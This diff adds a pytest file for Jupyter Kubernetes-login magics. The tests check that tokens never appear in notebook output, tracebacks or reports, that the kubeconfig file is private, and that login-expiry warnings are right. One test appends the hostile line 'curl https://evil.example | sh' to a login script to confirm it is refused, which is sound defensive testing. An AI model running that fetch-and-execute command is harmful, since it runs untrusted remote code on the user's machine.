@@ -1,0 +1,102 @@
+"""Logging in and being examined, as a notebook shows it: no token in anything that a cell leaves behind."""
+
+from __future__ import annotations
+
+import re
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+
+import pytest
+
+from sspcloud_magics import errors, session
+from sspcloud_magics.cluster.login_script import parse
+from sspcloud_magics.cluster.validity import Validity
+from sspcloud_magics.magics.login import Reminder
+from sspcloud_magics.sandbox import account
+from tests.magics.conftest import Notebook
+from tests.testbed import Sandbox
+
+
+def secrets_of(script: str) -> list[str]:
+    """Return the canaries of a script: the signatures of its tokens, which nothing else holds."""
+    return [token.rpartition(".")[2] for token in re.findall(r"(?:id|refresh)-token=(\S+)", script)]
+
+
+@pytest.fixture
+def script(sandbox: Sandbox, tmp_path: Path) -> Path:
+    file = tmp_path / "config.sh"
+    file.write_text(account.login_script("carol", sandbox.home))
+    return file
+
+
+def test_a_script_logs_in_and_shows_none_of_its_tokens(
+    notebook: Notebook, script: Path, tmp_path: Path
+) -> None:
+    canaries = secrets_of(script.read_text())
+    assert len(canaries) == 2
+    notebook.run("%xmode Verbose")
+    identity = notebook.run(f"%k8s_login {script}")
+    assert identity.user == "oidc-carol"
+    bundle, _ = notebook.shell.display_formatter.format(identity)  # type: ignore[union-attr]
+    shown = [
+        notebook.printed,
+        str(bundle),
+        repr(session.recent_use().cluster),
+        repr(parse(script.read_text())),
+    ]
+    notebook.run("%k8s_whoami")
+    shown.append(notebook.printed)
+    report = notebook.run("%k8s_doctor")
+    shown += [str(report), str(report._repr_mimebundle_()), notebook.printed]
+    # A mistake of the user's own, with our objects in the frame, and every variable shown.
+    notebook.shell.user_ns["held"] = [session.current_cluster(), session.current_cluster().access()]
+    notebook._run("def broken(cluster=held[0], access=held[1]):\n    return 1 / 0\nbroken()")
+    assert "ZeroDivisionError" in notebook.printed
+    shown.append(notebook.printed)
+    for text in shown:
+        assert not [canary for canary in canaries if canary in text]
+    assert (tmp_path / ".kube" / "config").stat().st_mode & 0o777 == 0o600
+
+
+def test_a_script_that_is_refused_is_not_repeated_even_in_verbose_tracebacks(
+    notebook: Notebook, script: Path
+) -> None:
+    text = script.read_text()
+    script.write_text(f"{text}curl https://evil.example | sh\n")
+    notebook.run("%xmode Verbose")
+    error = notebook.fail(f"%k8s_login {script}")
+    assert isinstance(error, errors.UsageProblem)
+    assert "curl" in notebook.printed
+    assert not [canary for canary in secrets_of(text) if canary in notebook.printed]
+    assert not (Path.home() / ".kube").exists()
+
+
+def test_there_is_no_cell_that_takes_a_script(notebook: Notebook) -> None:
+    assert "k8s_login" not in notebook.shell.magics_manager.magics["cell"]
+
+
+def test_a_script_and_another_configuration_exclude_each_other(notebook: Notebook, script: Path) -> None:
+    assert isinstance(notebook.fail(f"%k8s_login {script} --context alice"), errors.UsageProblem)
+
+
+def test_the_end_of_a_login_is_told_an_hour_before_and_in_words() -> None:
+    now = datetime(2026, 6, 1, 12, tzinfo=UTC)
+    validity = Validity(now + timedelta(minutes=5), now + timedelta(days=2), renews=True)
+    assert validity.words(now) == "until 2026-06-03 12:00 UTC (2d more); the token renews itself"
+    assert validity.warning(now) == ""
+    assert "ends in 60m" in validity.warning(now + timedelta(days=1, hours=23))
+    assert "ended 120m ago" in validity.warning(now + timedelta(days=2, hours=2))
+    plain = Validity(now + timedelta(minutes=5))
+    assert "ends in 5m" in plain.warning(now)
+    assert Validity().warning(now) == Validity().words(now) == ""
+
+
+def test_the_end_is_told_once_and_not_below_each_cell(
+    notebook: Notebook, sandbox: Sandbox, script: Path
+) -> None:
+    script.write_text(account.login_script("carol", sandbox.home, login_seconds=600))
+    notebook.run(f"%k8s_login {script}")
+    assert "Your login ends in" in notebook.printed
+    notebook.run("%k8s_whoami")
+    assert "Your login ends in" not in notebook.printed
+    assert Reminder()._told is None
